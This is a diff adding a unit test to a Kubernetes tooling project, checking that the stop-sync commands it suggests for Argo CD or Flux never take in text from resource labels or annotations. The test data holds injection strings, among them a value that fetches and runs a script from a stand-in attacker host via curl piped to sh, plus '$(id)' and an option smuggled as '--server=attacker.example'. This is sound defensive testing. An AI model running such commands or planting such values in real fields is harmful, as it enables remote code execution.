@@ -64,6 +64,28 @@ describe('who else manages the installation', () => {
     );
   });
 
+  it('puts no text of others into a command: a shell reads one word, and no option', () => {
+    const evil = [
+      'x; curl -s http://attacker.example | sh #',
+      '$(id)',
+      '`id`',
+      '--server=attacker.example',
+      "x' y",
+      'a\nb',
+      'n'.repeat(400),
+    ];
+    for (const text of evil)
+      for (const object of [
+        agent({ annotations: { 'argocd.argoproj.io/tracking-id': text } }),
+        agent({ labels: { 'argocd.argoproj.io/instance': text } }),
+        agent({ labels: { 'kustomize.toolkit.fluxcd.io/name': text, 'kustomize.toolkit.fluxcd.io/namespace': text } }),
+      ]) {
+        const [{ command, hint } = assert.fail()] = foundIn([object]).managedBy;
+        assert.match(command ?? '', /^(?:argocd app set APPLICATION --sync-policy none|flux suspend kustomization NAME -n flux-system)$/);
+        assert.equal(hint, `Commit the upgrade to its source, or stop it first: ${command}`);
+      }
+  });
+
   it('sees MicroK8s by its host paths', () => {
     const images = { 'calico-node': 'calico/node:v3.28.1', 'init:install-cni': 'calico/cni:v3.28.1' };
     const snap = workloadOf('DaemonSet', 'calico-node', { env: BIRD, images, hostPaths: ['/var/snap/microk8s/current/opt/cni/bin'] });
